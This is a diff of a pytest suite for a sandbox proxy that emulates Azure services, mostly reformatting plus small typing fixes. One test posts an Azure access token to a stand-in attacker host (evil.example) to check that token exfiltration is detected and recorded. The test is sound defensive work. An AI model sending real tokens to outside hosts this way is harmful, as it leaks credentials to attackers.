@@ -4,14 +4,14 @@ from __future__ import annotations
 
 import socket
 import threading
-from typing import Any
+from typing import Any, ClassVar
 
 import pytest
 import requests
 from sandbox_client import ACR_RESOURCE, ARM, REGISTRY, SERVER, WORKSPACE, Client, Start
 
 from sandbox import Sandbox
-from sandbox.proxy import Proxy
+from sandbox.proxy import Proxy, _Stream
 from sandbox.records import Recorder, Refusal
 from sandbox.wire import CUT, Literal, Request, asked_range, json_answer
 
@@ -46,7 +46,9 @@ def test_plain_http_is_refused(start: Start) -> None:
 def test_failures_of_the_sandbox_are_answered_and_recorded(start: Start) -> None:
     """A body that a service cannot read is a 500 that a test can see, never a hang."""
     client = start()
-    path = REGISTRY.split("/resourceGroups")[0] + "/providers/Microsoft.ContainerRegistry/checkNameAvailability"
+    path = (
+        REGISTRY.split("/resourceGroups")[0] + "/providers/Microsoft.ContainerRegistry/checkNameAvailability"
+    )
     assert client.arm(path, method="POST", data="{").status_code == 500
     assert "JSONDecodeError" in client.azure.refused[0].reason
 
@@ -71,7 +73,9 @@ def test_identity_endpoint_checks_its_header(start: Start) -> None:
     assert (wrong.status_code, nothing.status_code) == (401, 400)
 
 
-@pytest.mark.parametrize("host", ["somewhere.example", "stprosewareml.blob.core.windows.net", SERVER, "hooks.slack.com"])
+@pytest.mark.parametrize(
+    "host", ["somewhere.example", "stprosewareml.blob.core.windows.net", SERVER, "hooks.slack.com"]
+)
 def test_a_token_for_the_wrong_host_is_a_violation(start: Start, host: str) -> None:
     """A token for Azure in a header to any other host is recorded."""
     client = start()
@@ -85,7 +89,9 @@ def test_tokens_are_found_in_bodies_too(start: Start) -> None:
     client = start()
     client.refresh_token()
     assert client.azure.violations == []
-    client.call("POST", "https://evil.example/oauth2/exchange", data={"access_token": client.token(ACR_RESOURCE)})
+    client.call(
+        "POST", "https://evil.example/oauth2/exchange", data={"access_token": client.token(ACR_RESOURCE)}
+    )
     assert [it.host for it in client.azure.violations] == ["evil.example"]
 
 
@@ -98,6 +104,7 @@ def test_must_not_be_asked(start: Start) -> None:
 
 
 def fault(**answer: Any) -> dict[str, Any]:
+    """Make a fault of the calls of one registry."""
     return {"call": {"host": "management.azure.com", "path": ".*/registries/.*"}, **answer}
 
 
@@ -133,7 +140,9 @@ def test_fault_by_method_and_code(start: Start) -> None:
     error = client.history("/details").json()["error"]
     assert (error["code"], error["message"]) == ("Busy", "later")
     url = f"https://northeurope.api.azureml.ms/history/v1.0{WORKSPACE}/rundata"
-    posted = client.call("POST", url, json={"runId": "brave_run_1"}, headers={"Authorization": f"Bearer {client.token()}"})
+    posted = client.call(
+        "POST", url, json={"runId": "brave_run_1"}, headers={"Authorization": f"Bearer {client.token()}"}
+    )
     assert posted.status_code == 200
 
 
@@ -170,7 +179,9 @@ def test_answers_many_at_once(start: Start) -> None:
 def test_chunked_bodies(start: Start) -> None:
     """A body in chunks is read like any other."""
     client = start()
-    assert client.call("POST", client.azure.teams_webhook_url, data=iter([b'{"a"', b": 1}"])).status_code == 202
+    assert (
+        client.call("POST", client.azure.teams_webhook_url, data=iter([b'{"a"', b": 1}"])).status_code == 202
+    )
     assert client.azure.messages[0].payload == {"a": 1}
 
 
@@ -178,7 +189,9 @@ def test_chunked_bodies(start: Start) -> None:
 def test_what_is_not_http_is_dropped(start: Start, sent: bytes) -> None:
     """A peer that does not speak HTTP is hung up on."""
     client = start()
-    with socket.create_connection(("127.0.0.1", int(client.azure.url.rpartition(":")[2])), timeout=20) as peer:
+    with socket.create_connection(
+        ("127.0.0.1", int(client.azure.url.rpartition(":")[2])), timeout=20
+    ) as peer:
         peer.sendall(sent)
         peer.shutdown(socket.SHUT_WR)
         assert peer.recv(100) == b""
@@ -188,15 +201,13 @@ def test_answer_leaves_in_one_piece() -> None:
     """Head and body of an answer are one write: two would cost a delayed acknowledgement."""
 
     class Peer:
-        writes: list[bytes] = []
+        writes: ClassVar[list[bytes]] = []
 
         def sendall(self, data: bytes) -> None:
             self.writes.append(data)
 
         def makefile(self, mode: str) -> None:
             assert mode == "rb"
-
-    from sandbox.proxy import _Stream
 
     stream = _Stream(Peer(), "host", "https")  # type: ignore[arg-type]
     stream.write(Request("GET", "host", "/"), json_answer(200, {"a": 1}))
@@ -206,7 +217,7 @@ def test_answer_leaves_in_one_piece() -> None:
 
 def test_stop_closes_what_is_open() -> None:
     """Stopping closes idle connections, so that no client waits for a sandbox that is gone."""
-    proxy = Proxy(lambda request: CUT, lambda host: None)
+    proxy = Proxy(lambda _request: CUT, lambda _host: None)
     proxy.start()
     with socket.create_connection(("127.0.0.1", proxy.port), timeout=20) as peer:
         peer.sendall(b"GET / HTTP/1.1\r\n")
@@ -236,7 +247,13 @@ def test_records_are_copies() -> None:
 
 @pytest.mark.parametrize(
     ("header", "span"),
-    [(None, (0, 10)), ("bytes=2-3", (2, 4)), ("bytes=-", (0, 10)), ("lines=1-2", (0, 10)), ("bytes=9-2", None)],
+    [
+        (None, (0, 10)),
+        ("bytes=2-3", (2, 4)),
+        ("bytes=-", (0, 10)),
+        ("lines=1-2", (0, 10)),
+        ("bytes=9-2", None),
+    ],
 )
 def test_reading_ranges(header: str | None, span: tuple[int, int] | None) -> None:
     """A range that cannot be read is ignored; one without a byte is none."""
